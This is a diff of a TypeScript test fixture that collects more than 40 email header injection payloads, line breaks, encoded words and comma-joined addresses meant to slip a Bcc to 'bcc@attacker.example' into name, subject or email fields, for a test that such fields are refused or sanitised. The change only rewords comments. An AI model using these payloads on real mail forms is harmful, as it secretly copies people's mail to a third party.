@@ -1,9 +1,9 @@
-/** Where an injected header would send a copy. No header of a mail may ever name it. */
+/** The recipient of an injected header. No header of a mail may contain it. */
 export const injectedAddress = 'bcc@attacker.example';
 
 const BCC = `Bcc: ${injectedAddress}`;
 
-/** Everything some program somewhere takes for the end of a line. */
+/** Every sequence that some program takes for a line end. */
 const breaks = [
 	'\r\n',
 	'\n',
@@ -61,7 +61,7 @@ const encodedWords = [
 	'=?utf-7?Q?Wanjiku+AA0-+AAo-Bcc:_bcc=40attacker.example?=',
 ];
 
-/** One address that is two, for whoever splits or quotes it carelessly. */
+/** Two addresses in one, for code that splits or quotes carelessly. */
 const addressLists = [
 	`wanjiku@example.com,${injectedAddress}`,
 	`wanjiku@example.com, ${injectedAddress}`,
@@ -86,8 +86,8 @@ const addressLists = [
 ];
 
 /**
- * More than 40 texts for a name, a subject or an email field that try to add a header or a recipient to the mail it ends
- * up in (promise N8). Such a field is refused, or its mail has one To, one Subject, no Bcc and no `injectedAddress` in any
- * header but as part of the text it was written into.
+ * More than 40 texts for a name, a subject or an email field that try to add a header or a recipient to a mail (promise
+ * N8). The field must be refused, or its mail has one To, one Subject, no Bcc and no `injectedAddress` in any header
+ * except as part of the text it was typed into.
  */
 export const headerPayloads: readonly string[] = [...breaks, ...withHeaders, ...encodedWords, ...addressLists];
